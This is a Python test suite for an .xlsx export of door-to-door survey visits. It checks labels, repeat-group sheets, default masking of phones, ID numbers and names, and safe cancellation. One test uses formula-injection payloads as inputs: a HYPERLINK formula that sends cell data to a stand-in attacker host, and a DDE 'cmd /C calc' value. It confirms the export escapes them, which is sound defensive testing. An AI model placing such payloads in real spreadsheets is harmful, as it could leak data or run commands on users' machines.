"""Visits to .xlsx, read back with openpyxl: one row per visit (attempts, corrected ones with
the visit that replaces them), labels not codes, a sheet per repeat linked by key, masked by
default, formula-like answers escaped."""

from __future__ import annotations

import openpyxl
import pytest
from sqlalchemy import select

from desktop.core.errors import ValidationError
from desktop.core.masking import mask_name
from desktop.core.tasks import Cancelled, TaskContext
from desktop.roster.models import Resident
from desktop.visits.records.campaigns import CampaignDoor
from desktop.visits.results.export import export_visits
from tests.visits.results.conftest import DAY1, answers, visit


def _export(setup, path, **kw):
    with setup.db.reading() as session:
        return export_visits(session, setup.campaign_id, path, **kw)


def _sheets(path):
    book = openpyxl.load_workbook(path)
    out = {}
    for sheet in book.worksheets:
        rows = [[c if c is not None else "" for c in r] for r in sheet.iter_rows(values_only=True)]
        out[sheet.title] = [dict(zip(rows[0], r)) for r in rows[1:]]
    return out


def test_one_row_per_visit_with_labels_and_the_repeat_sheet(story, tmp_path):
    setup, ids = story.setup, story.ids
    done = _export(setup, tmp_path / "v.xlsx", masked=False)
    assert done.visits == 12 and done.sheets == ("Visits", "Members")
    sheets = _sheets(tmp_path / "v.xlsx")
    rows = {r["_uuid"]: r for r in sheets["Visits"]}
    assert set(rows) == set(ids.values())  # attempts, replaced ones and the stray too
    a = rows[ids["a_done"]]
    assert (a["Outcome"], a["Attempt"], a["Counts in results"]) == ("Completed", 2, "Yes")
    assert a["Do you agree with the plan"] == "Agree"
    assert a["Most needed"] == "A lift, Parking"  # labels, not "lift parking"
    assert a["People in the household"] == 3  # a number, not text
    assert a["Visited at"] == "2026-12-03 10:30"
    assert rows[ids["a_not_home"]]["Outcome"] == "Not at home"
    assert rows[ids["a_not_home"]]["Attempt"] == 1
    first = rows[ids["c_first"]]
    assert (first["Replaced by visit"], first["Counts in results"]) == (ids["c_fix"], "No")
    assert rows[ids["c_fix"]]["Corrects visit"] == ids["c_first"]
    assert rows[ids["g_fix"]]["Outcome"] == "Refused"
    assert rows[ids["b_first"]]["Counts in results"] == "No"  # the other laptop's is later
    b = rows[ids["b_second"]]
    assert b["Most needed"] == "Greenery, Other, please specify"
    assert b["Most needed: other"] == "路灯"
    assert rows[ids["stray"]]["Counts in results"] == "No"
    assert rows[ids["e"]]["Come back at"] == "2026-12-03 15:30"
    # Unmasked: the flat, the phone, the member names as given.
    assert a["Address"].endswith("单元" + a["Address"].split("单元")[-1])
    assert a["Address"][-3:].isdigit()
    assert a["Contact phone"] == "13912345678"
    members = sheets["Members"]
    assert [(m["Name"], m["Lives here"], m["_parent_index"], m["_submission__uuid"],
             m["_parent_table_name"]) for m in members] == [
        ("王大明", "Yes", a["_index"], ids["a_done"], "Visits"),
        ("王小明", "No", a["_index"], ids["a_done"], "Visits")]
    assert [m["_index"] for m in members] == [1, 2]


def test_masked_by_default(story, tmp_path):
    setup = story.setup
    with setup.db.reading() as session:  # a member of door 7's household, as the roster has it
        member = session.execute(
            select(Resident.name).join(CampaignDoor, CampaignDoor.household_id
                                       == Resident.household_id)
            .where(CampaignDoor.id == setup.doors[7])).scalars().first()
    visit(setup, 7, "completed", DAY1, answers(
        comment="找王大明，电话 139-1234-5678，身份证330106198003151234",
        members=[{"member_name": "王大明", "lives_here": "yes"}]), note=f"{member}的女儿在家")
    done = _export(setup, tmp_path / "m.xlsx")
    assert done.masked
    sheets = _sheets(tmp_path / "m.xlsx")
    rows = {r["_uuid"]: r for r in sheets["Visits"]}
    a = rows[story.ids["a_done"]]
    assert a["Contact phone"] == "139****5678"
    assert a["Address"].endswith("单元")  # the stairwell, never the flat
    assert a["Do you agree with the plan"] == "Agree"  # answers without persons stay
    names = [m["Name"] for m in sheets["Members"]]
    assert names == ["王*明", "王*明", "王*明"]
    text = "\n".join(str(v) for r in sheets["Visits"] for v in r.values())
    assert "13912345678" not in text and "1234-5678" not in text
    assert "198003151234" not in text and "330106********1234" in text
    assert "王大明" not in text
    assert member not in text and mask_name(member) + "的女儿在家" in text


def test_formula_like_answers_are_escaped_text(setup, tmp_path):
    visit(setup, 0, "completed", DAY1, answers(
        comment='=HYPERLINK("http://evil.example/?"&A1,"点我")',
        members=[{"member_name": "@SUM(1+1)", "lives_here": "yes"}]),
          note="+cmd|' /C calc'!A0")
    _export(setup, tmp_path / "f.xlsx", masked=False)
    book = openpyxl.load_workbook(tmp_path / "f.xlsx")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
    rows = _sheets(tmp_path / "f.xlsx")
    visit_row = rows["Visits"][0]
    assert visit_row["Other remarks"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")"
    assert visit_row["Note"] == "'+cmd|' /C calc'!A0"
    assert rows["Members"][0]["Name"] == "'@SUM(1+1)"


def test_cancel_leaves_no_file_and_a_gone_campaign_is_refused(story, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "c.xlsx").write_bytes(b"an earlier export")
    ctx = TaskContext(min_interval=0)

    def cancel_while_writing(done, total, message):
        if message.startswith("Writing"):
            ctx.cancel()  # the rows are being written to the temporary file now
    ctx.on_progress = cancel_while_writing
    with pytest.raises(Cancelled):
        _export(story.setup, out / "c.xlsx", ctx=ctx)
    assert [p.name for p in out.iterdir()] == ["c.xlsx"]
    assert (out / "c.xlsx").read_bytes() == b"an earlier export"
    with story.setup.db.reading() as session, pytest.raises(ValidationError):
        export_visits(session, "gone", tmp_path / "g.xlsx")


def test_a_repeat_sheet_with_an_awkward_name_is_named_where_its_rows_point(db, tmp_path):
    from dataclasses import replace

    from desktop.core.tasks import TaskContext as Ctx
    from desktop.setup.demo import fill_demo
    from desktop.visits.forms.model import TEXT, Group, Question, Text
    from tests.visits.results.conftest import OPINION, make_campaign

    fill_demo(db, 300, Ctx(), campaigns=False)
    label = "Members/residents: everyone [who lives here] now"  # "/" and "[]", > 31 chars
    pets = Group("pets", Text({"English (en)": "Pets"}),
                 (Question("pet", TEXT, Text({"English (en)": "Pet"})),), repeat=True)
    children = tuple(replace(n, label=Text({"English (en)": label}),
                             children=(*n.children, pets))
                     if isinstance(n, Group) else n for n in OPINION.children)
    setup = make_campaign(db, "Awkward", replace(OPINION, children=children))
    visit(setup, 0, "completed", DAY1, answers(
        members=[{"member_name": "王大明", "lives_here": "yes", "pets": [{"pet": "猫"}]}]))
    done = _export(setup, tmp_path / "a.xlsx")
    assert len(done.sheets) == 3 and done.sheets[1] != label
    sheets = _sheets(tmp_path / "a.xlsx")
    # A pet's row names the sheet of the member it belongs to, as that sheet is named.
    assert [(e["Pet"], e["_parent_table_name"], e["_parent_index"]) for e in
            sheets[done.sheets[2]]] == [("猫", done.sheets[1], 1)]
    assert openpyxl.load_workbook(tmp_path / "a.xlsx").sheetnames == list(done.sheets)
